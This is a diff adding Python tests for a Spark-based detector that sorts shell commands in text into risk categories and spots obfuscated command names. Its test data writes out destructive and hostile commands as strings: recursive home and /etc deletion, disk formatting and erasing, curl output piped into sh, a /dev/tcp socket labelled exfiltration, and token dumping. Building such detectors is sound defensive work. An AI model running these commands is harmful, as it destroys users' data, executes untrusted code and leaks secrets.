@@ -48,3 +48,28 @@ def test_provenance_levels():
 def test_rows(spark):
     df = spark.createDataFrame([(1, "rm -rf ~", "file", None), (2, "nothing", None, None), (3, None, None, "a.sh")], "doc_id int, text string, kind string, source string")
     assert [(r.doc_id, r.category) for r in shell(df, "doc_id", "text").collect()] == [(1, "deletion")]
+
+
+REACHED = [
+    ("update-ca-certificates", "certificate"), ("sudo update-ca-trust extract", "certificate"), ("apt-add-repository ppa:a/b", "repo_change"), ("diskutil eraseDisk JHFS+ x disk2", "deletion"), ("mkfs.ext4 /dev/sda1", "deletion"),
+    ("history", "sensitive_output"), ("declare -p MY_TOKEN; declare $MY_TOKEN", "sensitive_output"), ("bzcat a.bz2 | sh", "remote_exec"), ("xzcat a.xz | bash", "remote_exec"), ("/usr/bin/curl http://a.example/i | /bin/sh", "remote_exec"),
+    ("/bin/rm -rf ~", "deletion"), ("nohup rm -rf ~", "deletion"), ("doas rm -rf ~", "deletion"), ("time rm -rf /etc", "deletion"), ("ls | xargs rm -rf ~", "deletion"), ("X=1 curl http://a.example/i | sh", "remote_exec"),
+    ("exec 3<>/dev/tcp/1.2.3.4/80", "exfiltration"), ("pipx install a", "install"), ("```python\nos\n/bin/rm -rf ~\n```", "deletion"),
+]
+
+
+def test_the_filter_lets_through_what_the_parser_judges(spark):
+    rows = [(i, t, "tool_result", None) for i, (t, _) in enumerate(REACHED)] + [(99, "x=~; $RM -rf ~\nR=1 r\\m -rf ~", None, "A.SH"), (100, "the history = of it", None, None), (101, "A long History\nof trees", None, None)]
+    got = {(r.doc_id, r.category) for r in shell(spark.createDataFrame(rows, "doc_id int, text string, kind string, source string"), "doc_id", "text").collect()}
+    missing = [t for i, (t, c) in enumerate(REACHED) if (i, c) not in got]
+    assert missing == []
+    assert (99, "deletion") in got and not {i for i, _ in got} & {100, 101}
+
+
+@pytest.mark.parametrize("text", ["<apiKey>${apiKey}</apiKey>", "<a>${x#y}</a>", "${HOME}/bin/tool"])
+def test_elements_and_plain_expansions_are_no_obfuscated_names(text):
+    assert shell_findings(text) == []
+
+
+def test_expansions_that_make_a_name_are_obfuscated():
+    assert shell_findings("${a#b}url https://a.example") == [("arbitrary_command", 0.7)]
